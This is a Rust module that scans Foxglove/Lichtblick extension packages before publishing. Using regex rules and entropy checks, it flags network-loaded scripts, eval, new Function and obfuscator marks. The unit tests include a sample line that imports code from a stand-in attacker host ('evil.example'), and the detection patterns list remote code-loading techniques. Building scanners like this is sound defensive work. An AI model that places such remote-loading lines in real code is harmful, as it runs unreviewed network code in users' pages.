//! The pre-publish scan: what a package's code does that a reviewer should
//! see before it runs in every user's viewer (Lichtblick and Foxglove run
//! extensions in their page, unsandboxed). It reads the JavaScript and
//! WebAssembly a `.foxe` ships and reports findings; the server's policy
//! decides what a finding of severity `high` does (docs/api.md).
//!
//! It must not cry wolf on what real panels bundle: minified React, three,
//! plotly, roslib, and protobufjs (whose code generation uses `new
//! Function`). So dynamic code alone is a `warning`, shown and never acted
//! on; `high` is kept for code loaded from the network at run time and for
//! the marks of an obfuscator, which no library on npm ships
//! (`scripts/scan-corpus.sh` measures this on real packages).

use std::io::{Cursor, Read};
use std::sync::LazyLock;

use regex::Regex;
use serde::{Deserialize, Serialize};
use zip::ZipArchive;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
#[cfg_attr(feature = "schema", derive(utoipa::ToSchema))]
pub enum Severity {
    /// Worth knowing (a large encoded blob, WebAssembly shipped).
    Info,
    /// Code a reviewer should read (eval, new Function): common in real
    /// libraries, never acted on.
    Warning,
    /// Code loaded from the network at run time, or obfuscated: what the
    /// policy acts on.
    High,
}

/// One thing the scan found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(utoipa::ToSchema))]
pub struct Finding {
    /// e.g. `remote-import`, `eval`, `obfuscated`.
    pub rule: String,
    pub severity: Severity,
    /// The entry of the package.
    pub file: String,
    /// 1-based; 0 for the whole file.
    pub line: usize,
    pub message: String,
    /// Up to 120 characters around what matched.
    pub excerpt: String,
}

/// Scripts larger than this are a warning: a reviewer cannot read them.
pub const SIZE_BUDGET_BYTES: usize = 10 * 1024 * 1024;

struct Rule {
    name: &'static str,
    severity: Severity,
    pattern: &'static str,
    message: &'static str,
}

const RULES: &[Rule] = &[
    Rule {
        name: "remote-import",
        severity: Severity::High,
        pattern: r#"\bimport\s*\(\s*["'`]https?://"#,
        message: "imports a module from the network at run time: code nobody reviewed",
    },
    Rule {
        name: "remote-import",
        severity: Severity::High,
        pattern: r#"\bimportScripts\s*\(\s*["'`]https?://"#,
        message: "loads a script from the network at run time: code nobody reviewed",
    },
    Rule {
        name: "remote-script",
        severity: Severity::High,
        pattern: r#"\.src\s*=\s*["'`]https?://[^"'`]*\.m?js\b"#,
        message: "adds a script from the network to the page: code nobody reviewed",
    },
    Rule {
        name: "remote-wasm",
        severity: Severity::High,
        pattern: r#"WebAssembly\.(?:instantiate|compile)Streaming\s*\(\s*fetch\s*\(\s*["'`]https?://"#,
        message: "runs WebAssembly fetched from the network: code nobody reviewed",
    },
    Rule {
        name: "eval",
        severity: Severity::Warning,
        pattern: r"(?:^|[^.\w$])eval\s*\(",
        message: "evaluates a string as code (eval)",
    },
    Rule {
        name: "new-function",
        severity: Severity::Warning,
        pattern: r"\bnew\s+Function\s*\(",
        message: "compiles a string into a function (new Function): common in code generators such as protobufjs",
    },
    Rule {
        name: "string-timer",
        severity: Severity::Warning,
        pattern: r#"\bset(?:Timeout|Interval)\s*\(\s*["'`]"#,
        message: "passes a string of code to a timer",
    },
];

static COMPILED: LazyLock<Vec<(Regex, &'static Rule)>> = LazyLock::new(|| {
    RULES
        .iter()
        .filter_map(|rule| Regex::new(rule.pattern).ok().map(|re| (re, rule)))
        .collect()
});

/// javascript-obfuscator's identifiers (`_0x3f2a1c`).
static OBFUSCATED_NAME: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"\b_0x[0-9a-f]{4,6}\b").ok());
/// A string literal of 16 KiB or more of base64 characters.
static BLOB: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"["'`]([A-Za-z0-9+/=]{16384,})["'`]"#).ok());

/// Obfuscator identifiers past this many in one file are its mark.
const OBFUSCATED_NAMES: usize = 50;

fn line_of(text: &str, at: usize) -> usize {
    text.as_bytes()[..at]
        .iter()
        .filter(|b| **b == b'\n')
        .count()
        + 1
}

fn excerpt(text: &str, start: usize, end: usize) -> String {
    let mut from = start.saturating_sub(40);
    while !text.is_char_boundary(from) {
        from -= 1;
    }
    let mut to = (end + 40).min(text.len()).min(from + 120);
    while !text.is_char_boundary(to) {
        to -= 1;
    }
    text[from..to].replace(['\n', '\r'], " ")
}

/// Bits per character of `text`.
fn entropy(text: &str) -> f64 {
    let mut counts = [0usize; 256];
    for b in text.bytes() {
        counts[usize::from(b)] += 1;
    }
    let n = text.len() as f64;
    counts
        .iter()
        .filter(|c| **c > 0)
        .map(|c| {
            let p = *c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// The findings in one script, at most five per rule.
pub fn scan_script(file: &str, text: &str) -> Vec<Finding> {
    let mut findings = Vec::new();
    for (regex, rule) in COMPILED.iter() {
        for found in regex.find_iter(text).take(5) {
            findings.push(Finding {
                rule: rule.name.to_owned(),
                severity: rule.severity,
                file: file.to_owned(),
                line: line_of(text, found.start()),
                message: rule.message.to_owned(),
                excerpt: excerpt(text, found.start(), found.end()),
            });
        }
    }
    if let Some(names) = OBFUSCATED_NAME.as_ref() {
        let count = names.find_iter(text).count();
        if count >= OBFUSCATED_NAMES {
            findings.push(Finding {
                rule: "obfuscated".to_owned(),
                severity: Severity::High,
                file: file.to_owned(),
                line: 0,
                message: format!(
                    "{count} identifiers like `_0x3f2a1c`, the mark of javascript-obfuscator: \
                     publish the readable build, minified if you like"
                ),
                excerpt: String::new(),
            });
        }
    }
    if let Some(blob) = BLOB.as_ref() {
        for found in blob.captures_iter(text).take(5) {
            let Some(inner) = found.get(1) else { continue };
            if entropy(inner.as_str()) > 5.5 {
                findings.push(Finding {
                    rule: "encoded-blob".to_owned(),
                    severity: Severity::Info,
                    file: file.to_owned(),
                    line: line_of(text, inner.start()),
                    message: format!(
                        "a {} KiB base64 string (an image or a font, or code to decode)",
                        inner.len() / 1024
                    ),
                    excerpt: excerpt(text, inner.start(), inner.start() + 40),
                });
            }
        }
    }
    if text.len() > SIZE_BUDGET_BYTES {
        findings.push(Finding {
            rule: "size".to_owned(),
            severity: Severity::Warning,
            file: file.to_owned(),
            line: 0,
            message: format!(
                "{} MiB of script, past the {} MiB a reviewer can read",
                text.len() / (1024 * 1024),
                SIZE_BUDGET_BYTES / (1024 * 1024)
            ),
            excerpt: String::new(),
        });
    }
    findings
}

/// The findings in a package (which [`crate::validate`] accepted): every
/// script, and the WebAssembly it ships.
pub fn scan_package(bytes: &[u8]) -> Vec<Finding> {
    let Ok(mut archive) = ZipArchive::new(Cursor::new(bytes)) else {
        return Vec::new();
    };
    let mut findings = Vec::new();
    for index in 0..archive.len() {
        let Ok(mut entry) = archive.by_index(index) else {
            continue;
        };
        let Ok(name) = entry.name().map(|n| n.into_owned()) else {
            continue;
        };
        let lower = name.to_ascii_lowercase();
        if lower.ends_with(".wasm") {
            findings.push(Finding {
                rule: "wasm".to_owned(),
                severity: Severity::Info,
                file: name.clone(),
                line: 0,
                message: format!(
                    "ships {} KiB of WebAssembly, which this scan cannot read",
                    entry.size() / 1024
                ),
                excerpt: String::new(),
            });
            continue;
        }
        if !(lower.ends_with(".js") || lower.ends_with(".mjs") || lower.ends_with(".cjs")) {
            continue;
        }
        let mut text = String::new();
        if entry.read_to_string(&mut text).is_ok() {
            findings.extend(scan_script(&name, &text));
        }
    }
    findings.sort_by(|a, b| {
        b.severity
            .cmp(&a.severity)
            .then(a.file.cmp(&b.file))
            .then(a.line.cmp(&b.line))
    });
    findings
}

/// The most severe finding's severity, if any.
pub fn worst(findings: &[Finding]) -> Option<Severity> {
    findings.iter().map(|f| f.severity).max()
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]

    use super::*;

    fn rules(text: &str) -> Vec<(String, Severity)> {
        scan_script("dist/extension.js", text)
            .into_iter()
            .map(|f| (f.rule, f.severity))
            .collect()
    }

    #[test]
    fn code_from_the_network_is_high_and_dynamic_code_a_warning() {
        assert_eq!(
            rules("x(); await import('https://evil.example/p.js');"),
            [("remote-import".to_owned(), Severity::High)]
        );
        assert_eq!(
            rules("s.src = \"https://cdn.example/x.min.js\";"),
            [("remote-script".to_owned(), Severity::High)]
        );
        assert_eq!(
            rules("WebAssembly.instantiateStreaming(fetch('https://x/y.wasm'))"),
            [("remote-wasm".to_owned(), Severity::High)]
        );
        assert_eq!(
            rules("var f = eval(code);"),
            [("eval".to_owned(), Severity::Warning)]
        );
        assert_eq!(
            rules("return new Function('a', body)"),
            [("new-function".to_owned(), Severity::Warning)]
        );
        // What is not code loading: a method named eval, a local import,
        // an image URL.
        assert!(
            rules("math.eval(x); import('./chunk.js'); img.src = 'https://x/y.png';").is_empty()
        );
    }

    #[test]
    fn an_obfuscators_names_are_high_and_a_few_are_nothing() {
        let few: String = (0..10)
            .map(|i| format!("var _0x{:04x}=1;", i + 0x1000))
            .collect();
        assert!(rules(&few).is_empty());
        let many: String = (0..60)
            .map(|i| format!("var _0x{:04x}=1;", i + 0x1000))
            .collect();
        assert_eq!(rules(&many), [("obfuscated".to_owned(), Severity::High)]);
    }

    #[test]
    fn a_large_random_base64_string_is_noted() {
        let mut state = 7u64;
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let blob: String = (0..20_000)
            .map(|_| {
                state = state
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                alphabet[(state >> 58) as usize] as char
            })
            .collect();
        assert_eq!(
            rules(&format!("const img = \"{blob}\";")),
            [("encoded-blob".to_owned(), Severity::Info)]
        );
        assert!(rules(&format!("const pad = \"{}\";", "A".repeat(20_000))).is_empty());
    }
}
